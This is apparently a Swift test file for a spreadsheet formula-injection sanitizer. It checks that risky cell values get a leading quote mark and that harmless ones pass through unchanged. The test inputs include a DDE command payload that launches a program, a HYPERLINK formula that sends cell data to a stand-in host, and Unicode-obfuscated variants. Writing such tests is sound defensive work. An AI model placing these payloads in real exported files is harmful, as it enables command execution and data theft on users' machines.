import Reports
import Testing

@Suite struct `A cell for a spreadsheet` {
  @Test(arguments: [
    "=1+1", "+15551234567", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\0=1", "'=1", "'", "\u{FF1D}1", "\u{FF0B}1",
    "\u{FF0D}1", "\u{FF20}SUM(1)", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://example.com?x=\"&A1)", " =1+1",
    "\u{FEFF}=1", "\u{200B}+1", "\u{A0}@x", "-", "+", "=",
  ])
  func `gets a quote mark in front where it would run`(cell: String) {
    #expect(formulaSafe(cell).unicodeScalars.elementsEqual("'\(cell)".unicodeScalars))
  }

  @Test(arguments: ["", "ana@example.com", "a=b", "1-2", "12", "(+1)", "********", "a'b", " ana", "é=1", "%", "\"=1\""])
  func `stays as it is where it would not`(cell: String) {
    #expect(formulaSafe(cell) == cell)
  }
}
